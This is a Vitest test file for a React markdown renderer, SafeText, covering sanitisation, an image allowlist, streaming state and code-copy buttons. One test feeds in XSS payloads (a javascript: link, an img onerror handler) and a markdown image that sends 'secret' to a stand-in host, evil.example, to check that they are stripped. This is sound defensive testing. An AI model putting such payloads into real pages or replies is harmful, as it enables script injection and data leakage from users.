// @vitest-environment jsdom
import { afterEach, describe, expect, it, vi } from "vitest";
import { cleanup, fireEvent, render, screen, waitFor } from "@testing-library/react";
import { SafeText } from "./SafeText";
import { renderMarkdown } from "./render-markdown";

afterEach(cleanup);

const REPLY = [
  "Intro with [a link](https://example.com).",
  "",
  "- one",
  "",
  "- two",
  "",
  "```ts",
  "const a = 1;",
  "",
  "const b = '<b>';",
  "```",
  "",
  "| h |",
  "|---|",
  "| 1 |",
  "",
  "Bye.",
].join("\n");

describe("SafeText", () => {
  it("renders the same HTML block by block as the whole reply at once", () => {
    render(<SafeText markdown={REPLY} />);
    const container = screen.getByTestId("safe-text");
    container.querySelectorAll("[data-testid=copy-code]").forEach((button) => button.remove());
    const blockByBlock = Array.from(container.children, (block) => block.innerHTML).join("");
    expect(blockByBlock.replace(/\n/g, "")).toBe(String(renderMarkdown(REPLY)).replace(/\n/g, ""));
  });

  it("sanitises what it renders", () => {
    render(
      <SafeText
        markdown={'[x](javascript:alert(1)) <img src=x onerror="alert(1)"> ![leak](https://evil.example/?q=secret)'}
      />,
    );
    const container = screen.getByTestId("safe-text");
    expect(container.querySelector("[href], img, [onerror]")).toBeNull();
    expect(container.textContent).toContain("<img src=x onerror=");
  });

  it("passes the image allowlist through", () => {
    render(<SafeText markdown="![chart](https://img.example/c.png)" allowedImageOrigins={["https://img.example"]} />);
    expect(screen.getByRole("img", { name: "chart" }).getAttribute("src")).toBe("https://img.example/c.png");
  });

  it("marks the container busy while streaming", () => {
    const { rerender } = render(<SafeText markdown="Hel" streaming />);
    expect(screen.getByTestId("safe-text").getAttribute("aria-busy")).toBe("true");
    rerender(<SafeText markdown="Hello" />);
    expect(screen.getByTestId("safe-text").getAttribute("aria-busy")).toBe("false");
  });

  it("gives each code block a Copy button that copies the code as text", async () => {
    const writeText = vi.fn(() => Promise.resolve());
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    render(<SafeText markdown={REPLY} />);
    const buttons = screen.getAllByTestId("copy-code");
    expect(buttons).toHaveLength(1);
    fireEvent.click(buttons[0]!);
    expect(writeText).toHaveBeenCalledWith("const a = 1;\n\nconst b = '<b>';\n");
    await waitFor(() => expect(buttons[0]?.textContent).toBe("Copied"));
  });

  it("adds the Copy button to a code block that finishes while streaming", () => {
    const { rerender } = render(<SafeText markdown={"Text\n\n`"} streaming />);
    expect(screen.queryAllByTestId("copy-code")).toHaveLength(0);
    rerender(<SafeText markdown={"Text\n\n```\nx\n```"} streaming />);
    expect(screen.getAllByTestId("copy-code")).toHaveLength(1);
  });
});
